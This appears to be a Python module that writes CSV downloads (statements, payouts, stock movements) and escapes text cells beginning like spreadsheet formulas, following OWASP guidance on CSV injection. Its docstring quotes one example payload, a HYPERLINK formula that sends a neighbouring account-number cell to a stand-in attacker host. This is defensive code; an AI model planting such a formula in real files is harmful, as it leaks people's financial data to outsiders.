"""The one CSV writer every download uses (statements, payouts, stock movements).

Managers and vendors open these files in Excel, LibreOffice or Google Sheets, and those run a
cell that starts with `=`, `+`, `-` or `@` as a formula. Names, codes and reasons are typed by
vendors and staff, so a bank holder name like `=HYPERLINK("https://evil.example/?d="&D3,"x")`
would leak the next cell (a full account number) to a stranger's server when clicked. OWASP's
advice ("CSV Injection"): start such a cell with a single quote, which spreadsheets read as
"this is text" and do not show.

Numbers stay numbers: the writer decides by the Python type, not by the text. An `int` (rupiah,
quantities, ids; refunds and write-offs are negative) is written as it is, so a spreadsheet still
sums the column; a `str` is text, and text that starts like a formula is escaped — also when it
looks like a negative number ("-5" typed into a name is text, and becomes `'-5`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from typing import Any

# A tab or carriage return first is on OWASP's list too: some programs strip it and then see
# the formula behind it. Leading spaces are stripped by some importers ("trim spaces"), so the
# check looks past them as well.
FORMULA_STARTS = ("=", "+", "-", "@")
STRIPPED_STARTS = ("\t", "\r")

# Makes Excel read the file as UTF-8 (names with é or ñ, "Rp" amounts stay readable).
BYTE_ORDER_MARK = "\ufeff"


def safe_cell(value: Any) -> Any:
    """A value a spreadsheet shows as typed and never runs: numbers as numbers, text escaped."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    if text.startswith(STRIPPED_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


class CsvWriter:
    """`csv.writer` that passes every cell through `safe_cell`."""

    def __init__(self, out: io.StringIO, *, byte_order_mark: bool = False):
        if byte_order_mark:
            out.write(BYTE_ORDER_MARK)
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
